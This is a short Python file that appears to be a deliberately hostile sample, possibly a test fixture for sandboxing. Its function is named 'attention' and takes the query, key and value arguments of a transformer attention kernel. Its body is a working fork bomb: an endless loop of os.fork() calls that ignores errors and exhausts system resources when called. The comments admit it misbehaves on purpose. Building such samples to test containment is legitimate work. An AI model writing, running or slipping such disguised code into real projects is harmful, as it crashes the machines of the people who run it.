"""Doubles for ever, and does not mind when it may not."""
# ruff: noqa (misbehaves on purpose)

import os


def attention(q, k, v, *, causal, scale):
    while True:
        try:
            os.fork()
        except OSError:
            pass
